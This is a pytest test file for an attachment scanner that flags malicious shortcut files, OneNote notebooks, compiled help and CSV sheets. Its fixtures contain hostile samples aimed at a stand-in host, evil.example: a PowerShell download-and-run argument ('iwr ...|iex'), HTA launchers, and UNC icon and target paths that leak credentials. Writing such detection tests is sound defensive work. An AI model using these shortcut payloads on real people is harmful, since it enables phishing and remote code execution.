"""Shortcuts, notebooks, text sheets, help."""

import struct

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gatepost.model import traits
from gatepost.model.inspection import FileClass
from tests.adapters.inspection.documents.opening import opened
from tests.adapters.inspection.documents.samples import FILE_OBJECT, PROGRAM, notebook, shortcut

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40


def test_attach_12_a_shortcut_is_known_by_content_and_its_command_is_given_for_matching():
    found = opened(shortcut(arguments="-enc SQBFAFgA"), "invoice.pdf")
    assert FileClass.SHORTCUT in found.classes
    assert traits.MISLABELLED in found.traits
    assert not found.members


@pytest.mark.parametrize(
    "octets",
    [
        shortcut(target="\\\\evil.example\\share\\a.exe"),
        shortcut(share="\\\\evil.example\\share"),
        shortcut(icon="\\\\evil.example@SSL\\dav\\a.ico"),
        shortcut(arguments="/c start https://evil.example/a.hta"),
        shortcut(arguments='-c "iwr http://evil.example/x|iex"'),
    ],
)
def test_a_shortcut_to_the_network_is_named_by_its_host(octets):
    found = opened(octets, "a.lnk")
    assert {trait.detail for trait in found.details if trait.code == traits.REMOTE} == {"evil.example"}


def test_a_shortcut_to_this_machine_is_not_remote():
    assert traits.REMOTE not in opened(shortcut(), "a.lnk").traits


def test_what_is_appended_to_a_shortcut_is_given():
    assert [member.octets for member in opened(shortcut() + b"\0" * 99 + PROGRAM, "a.lnk").members] == [
        b"\0" * 99 + PROGRAM
    ]


@pytest.mark.parametrize(
    ("octets", "name"),
    [
        (b"[InternetShortcut]\r\nURL=file://evil.example/share/a.exe\r\n", "a.url"),
        (b"[InternetShortcut]\r\nURL=https://example.com\r\nIconFile=\\\\evil.example\\s\\a.ico\r\n", "a.url"),
        (b"[Desktop Entry]\nType=Link\nURL=https://evil.example/a\n", "a.desktop"),
        (b'<?xml version="1.0"?><libraryDescription><simpleLocation><url>\\\\evil.example\\s</url>', "a.library-ms"),
        (
            b"<?xml version='1.0'?><persistedQuery><scope><include path=\"\\\\evil.example\\s\\\"/></scope>",
            "a.search-ms",
        ),
        (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.example\\s\\a.ico\r\n", "a.scf"),
        (
            b"<?xml version='1.0'?><plist><dict><key>URL</key><string>smb://x</string><string>https://evil.example/</string>",
            "a.webloc",
        ),
    ],
)
def test_a_shortcut_in_words_is_named_by_its_host(octets, name):
    assert "evil.example" in {trait.detail for trait in opened(octets, name).details}


def test_attach_12_files_in_a_notebook_are_given_with_the_names_that_endanger():
    octets = notebook(("picture.png", PNG), ("order.hta", b"<script>x</script>"), ("run.exe", PROGRAM))
    found = opened(octets, "notes.one")
    assert [(member.name, member.octets) for member in found.members] == [
        ("picture", PNG),
        ("order.hta", b"<script>x</script>"),
        ("run.exe", PROGRAM),
    ]
    assert {FileClass.NOTEBOOK, FileClass.EXECUTABLE, FileClass.SCRIPT} <= found.classes
    assert traits.EMBEDDED in found.traits


def test_a_file_of_a_notebook_that_claims_to_be_longer_hides_none_behind_it():
    octets = notebook() + FILE_OBJECT + struct.pack("<QIQ", 1 << 60, 0, 0) + b"abc" + notebook(("a.exe", PROGRAM))
    assert PROGRAM in [member.octets for member in opened(octets, "a.one").members]


def test_compiled_help_is_not_looked_into_and_says_so():
    found = opened(b"ITSF\x03\x00\x00\x00" + b"\0" * 90, "a.txt")
    assert {traits.UNREADABLE, traits.MISLABELLED} <= found.traits
    assert FileClass.HELP in found.classes


def test_a_web_query_is_named_by_its_host():
    found = opened(b"WEB\r\n1\r\nhttps://evil.example/q\r\n", "a.iqy")
    assert FileClass.SHORTCUT in found.classes
    assert "evil.example" in {trait.detail for trait in found.details}


@pytest.mark.parametrize(
    "sheet",
    [
        b"name,value\r\n-1|2,3\r\n",
        b'a,"x|y!z"\r\n',
        b"=SUM(A1:A3)\r\n",
        b"+1 555|home!,x\r\n",
        b"@example|com\r\n",
        b"a;b\r\n-;-\r\n",
    ],
)
def test_an_honest_sheet_starts_nothing(sheet):
    assert not opened(sheet, "a.csv", "text/csv").traits


PIECES = st.lists(
    st.sampled_from(
        [b"\0", b"\xff", b"\x4c\0\0\0", b"a\0", b"\0\0\0\x14", FILE_OBJECT, b"\1" * 8, b".\0h\0t\0a\0\0\0"]
    ),
    max_size=40,
)


@given(PIECES, st.integers(0, 0xFF))
def test_whatever_the_octets_they_are_opened(pieces, flags):
    octets = b"".join(pieces)
    opened(shortcut()[:20] + bytes((flags,)) + octets, "a.lnk")
    opened(notebook() + octets, "a.one")
